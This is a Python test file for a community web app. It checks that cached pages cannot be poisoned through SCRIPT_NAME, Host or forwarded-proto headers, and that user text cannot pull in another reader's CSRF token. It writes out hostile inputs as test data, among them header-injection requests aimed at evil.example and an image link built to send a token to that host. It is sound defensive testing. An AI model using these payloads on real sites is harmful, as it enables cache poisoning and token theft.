"""Stored pages cannot be poisoned (issue 19, items 1-3), through gunicorn with 2 workers
sharing one page store: the poisoning request comes first after a visible write, so it is
the render that gets stored, and then another reader asks plainly."""

import http.client
import re
from urllib.parse import urlsplit

import pytest
import requests
from helpers import PASSWORD, make_board, make_campaign, make_thread, make_user
from servers import csrf_token, http_login

from community.ideas import service as ideas

pytestmark = pytest.mark.concurrency

SITE = "https://fans.example.test"


@pytest.fixture
def app(sqlite_app):
    """SQLite only: what is stored and served for which request is the subject, the same on
    either database."""
    return sqlite_app


def _raw_get(base, path, headers):
    """A GET sent as written: no client library tidies the path or the headers."""
    parts = urlsplit(base)
    connection = http.client.HTTPConnection(parts.hostname, parts.port, timeout=30)
    try:
        connection.putrequest("GET", path, skip_host=True, skip_accept_encoding=True)
        connection.putheader("Host", parts.netloc)
        for name, value in headers.items():
            connection.putheader(name, value)
        connection.endheaders()
        response = connection.getresponse()
        return response.status, response.read().decode(errors="replace")
    finally:
        connection.close()


def _vote(session, base, idea_id):
    """A visible write: every stored page is stale after it, so the next one is drawn."""
    answered = session.post(f"{base}/ideas/{idea_id}/vote",
                            data={"vote": "1", "csrf_token": session.csrf},
                            headers={"Accept": "application/json"}, timeout=30)
    assert answered.status_code == 200, answered.text[:300]


def _cached(response):
    return response.headers.get("X-Page-Cache")


def test_a_client_sent_script_name_never_reaches_a_stored_page(app, live_servers):
    with app.app_context():
        voter = make_user().username
        idea_id = ideas.propose(make_board(), make_user(), "Poison", "b").id
    base = live_servers.start(app.config["SQLALCHEMY_DATABASE_URI"], workers=2)
    _vote(http_login(base, voter, PASSWORD), base, idea_id)
    # gunicorn moves the header into SCRIPT_NAME for a client it trusts (127.0.0.1).
    status, poisoned = _raw_get(base, "//evil.example/leaderboards",
                                {"SCRIPT_NAME": "//evil.example"})
    plain = [requests.get(f"{base}/leaderboards", timeout=30) for _ in range(4)]
    for page in plain:
        assert page.status_code == 200 and "evil.example" not in page.text
        assert 'src="/static/js/site.js' in page.text
    assert "hit" in {_cached(page) for page in plain}
    # The prefix went back in front of the path: there is nothing there.
    assert status == 404 and "evil.example/static" not in poisoned


def test_a_script_name_header_is_dropped_not_a_500(app, live_servers):
    """gunicorn.conf.py takes no SCRIPT_NAME from any header: honoured from a trusted
    address it answered gunicorn's own 500 for a path outside the prefix."""
    with app.app_context():
        make_user()
    base = live_servers.start(app.config["SQLALCHEMY_DATABASE_URI"], workers=1)
    status, page = _raw_get(base, "/leaderboards", {"SCRIPT_NAME": "/evilprefix"})
    assert status == 200 and "/evilprefix" not in page


def test_a_foreign_host_is_refused_and_share_links_point_at_the_site(app, live_servers):
    with app.app_context():
        names = [make_user(f"sharer{i}").username for i in range(3)]
        idea_id = ideas.propose(make_board(), make_user(), "Share me", "b").id
        slug = make_campaign().product.slug
    base = live_servers.start(app.config["SQLALCHEMY_DATABASE_URI"], workers=2,
                              env={"FANFORGE_SITE_URL": SITE})
    voter, attacker, reader = (http_login(base, name, PASSWORD) for name in names)
    for path, link in ((f"/ideas/{idea_id}", f"{SITE}/ideas/{idea_id}"),
                       (f"/products/{slug}", f"{SITE}/products/{slug}")):
        _vote(voter, base, idea_id)
        refused = attacker.get(base + path, headers={"Host": "evil.example"}, timeout=30)
        for _ in range(2):
            page = reader.get(base + path, timeout=30)
            assert page.status_code == 200 and "evil.example" not in page.text
            assert re.findall(r'value="([^"]*)\?ref=[\w-]+"', page.text) == [link], path
        assert refused.status_code == 400


def test_a_page_stored_for_one_scheme_or_host_is_not_served_to_another(app, live_servers):
    base = live_servers.start(app.config["SQLALCHEMY_DATABASE_URI"], workers=2)
    port = urlsplit(base).port
    # gunicorn takes X-Forwarded-Proto from 127.0.0.1: this request is an https one.
    assert requests.get(f"{base}/ideas", headers={"X-Forwarded-Proto": "https"},
                        timeout=30).status_code == 200
    assert _cached(requests.get(f"{base}/ideas", timeout=30)) == "miss"
    other_host = requests.get(f"{base}/ideas", headers={"Host": f"localhost:{port}"}, timeout=30)
    assert other_host.status_code == 200 and _cached(other_host) == "miss"
    # The plain request's own page is kept (twice: the clock's minute may turn once).
    assert "hit" in {_cached(requests.get(f"{base}/ideas", timeout=30)) for _ in range(2)}


def test_text_a_reader_writes_is_never_filled_with_another_readers_token(app, live_servers):
    """The old placeholders written in a reply and as a user name come out as written."""
    with app.app_context():
        thief = make_user("__fanforge-csrf-token__").username
        fan = make_user().username
        thread_id = make_thread(title="Photos of the prototype").id
    base = live_servers.start(app.config["SQLALCHEMY_DATABASE_URI"], workers=2,
                              env={"FANFORGE_LINKS_MIN_LEVEL": "1"})
    path = f"{base}/t/{thread_id}"
    attacker = http_login(base, thief, PASSWORD)
    form = attacker.get(path, timeout=30).text
    form = form[form.index('id="reply"'):]
    fields = dict(re.findall(r'name="(csrf_token|submit_token)"[^>]*value="([^"]+)"', form))
    body = ("![](https://evil.example/p.gif?t=__fanforge-csrf-token__) and "
            "`__fanforge-submit-token__` in a code span")
    answered = attacker.post(f"{path}/reply", data={**fields, "body": body}, timeout=30,
                             allow_redirects=False)
    assert answered.status_code == 302, answered.text[:500]
    for reader in (requests.Session(), http_login(base, fan, PASSWORD)):
        for _ in range(2):
            html = reader.get(path, timeout=30).text
            token = csrf_token(html)
            # A visitor's page carries no token at all: nothing of theirs to lift.
            assert (token is None) == (reader.cookies.get("session") is None)
            assert re.findall(r'evil\.example/p\.gif\?t=([^"&\s]+)', html) == \
                ["__fanforge-csrf-token__"]
            assert "<code>__fanforge-submit-token__</code>" in html
            assert f">{thief}<" in html  # the name, not the reader's token
            assert f"t={token}" not in html
